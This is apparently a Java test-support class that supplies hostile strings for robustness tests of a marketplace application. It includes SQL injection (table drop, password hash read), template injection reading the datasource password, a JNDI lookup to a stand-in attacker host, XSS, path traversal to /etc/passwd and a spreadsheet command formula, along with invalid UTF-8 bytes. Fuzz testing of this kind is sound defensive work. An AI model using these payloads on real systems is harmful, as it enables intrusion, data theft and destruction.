package eu.aimarket.testsupport;

import java.util.List;
import java.util.Random;

/**
 * Text an attacker or a broken client sends: SQL and template injection (Qute's {@code {...}},
 * expression languages' {@code ${...}}), markup, control characters, right-to-left overrides,
 * characters outside the Basic Multilingual Plane. Each is a well-formed Java string; the invalid
 * byte sequences live in {@link #INVALID_UTF8}.
 */
public final class HostileText {

  public static final List<String> PAYLOADS =
      List.of(
          "' OR '1'='1",
          "'; DROP TABLE offering; --",
          "\" OR 1=1 --",
          "1; SELECT pg_sleep(5)",
          "' UNION SELECT password FROM pg_shadow --",
          "{inject:cdi}",
          "{#for i in 1..99999999}{i}{/for}",
          "{config:['quarkus.datasource.password']}",
          "{str:concat('a','b')}",
          "${7*7}",
          "#{7*7}",
          "{{7*7}}",
          "<%= 7*7 %>",
          "${jndi:ldap://attacker.invalid/a}",
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "../../../../etc/passwd",
          "%00%27",
          "\u202Egnp.exe",
          "Zürich Ωμέγα 東京 😀",
          "=cmd|' /C calc'!A0",
          "@SUM(1+1)",
          "\\u0000",
          "null",
          "-0",
          "1e999");

  /**
   * Byte sequences that are not UTF-8: stray continuation bytes, truncated sequences, overlong
   * encodings (of '/', of NUL), UTF-16 surrogates encoded as three bytes (lone and paired), code
   * points above U+10FFFF, and bytes that never occur in UTF-8.
   */
  public static final List<byte[]> INVALID_UTF8 =
      List.of(
          bytes(0x80),
          bytes(0xBF, 0x41),
          bytes(0xC3),
          bytes(0xE2, 0x82),
          bytes(0xF0, 0x9F, 0x98),
          bytes(0xC0, 0xAF),
          bytes(0xC1, 0xBF),
          bytes(0xC0, 0x80),
          bytes(0xE0, 0x80, 0xAF),
          bytes(0xF0, 0x80, 0x80, 0xAF),
          bytes(0xED, 0xA0, 0x80),
          bytes(0xED, 0xBF, 0xBF),
          bytes(0xED, 0xA0, 0xBD, 0xED, 0xB8, 0x80),
          bytes(0xF4, 0x90, 0x80, 0x80),
          bytes(0xF8, 0x88, 0x80, 0x80, 0x80),
          bytes(0xFE),
          bytes(0xFF, 0xFE));

  private HostileText() {}

  /** A hostile string of at most {@code maxLength} UTF-16 units (and at least one). */
  public static String any(Random random, int maxLength) {
    StringBuilder text = new StringBuilder();
    int parts = 1 + random.nextInt(3);
    for (int i = 0; i < parts; i++) {
      switch (random.nextInt(3)) {
        case 0 -> text.append(PAYLOADS.get(random.nextInt(PAYLOADS.size())));
        case 1 -> text.appendCodePoint(oddCodePoint(random));
        default -> text.append(PAYLOADS.get(random.nextInt(PAYLOADS.size()))).append(' ');
      }
    }
    String result = text.toString();
    if (result.length() > maxLength) {
      result = result.substring(0, Math.max(1, maxLength));
      if (Character.isHighSurrogate(result.charAt(result.length() - 1))) {
        result = result.substring(0, result.length() - 1) + "x";
      }
    }
    return result;
  }

  /** A string of exactly {@code length} characters, all in the Basic Multilingual Plane. */
  public static String ofLength(Random random, int length) {
    String alphabet = "aZ0 <>'\"{}$;-_äßéΩж東\u00A0\u200B";
    StringBuilder text = new StringBuilder(length);
    for (int i = 0; i < length; i++) {
      text.append(alphabet.charAt(random.nextInt(alphabet.length())));
    }
    return text.toString();
  }

  private static int oddCodePoint(Random random) {
    int[] odd = {0x0007, 0x001B, 0x007F, 0x00AD, 0x0301, 0x200D, 0x2028, 0x202E, 0xFEFF, 0xFFFD};
    return random.nextBoolean()
        ? odd[random.nextInt(odd.length)]
        : 0x1F300 + random.nextInt(0x300); // emoji and other astral symbols
  }

  private static byte[] bytes(int... values) {
    byte[] bytes = new byte[values.length];
    for (int i = 0; i < values.length; i++) {
      bytes[i] = (byte) values[i];
    }
    return bytes;
  }
}
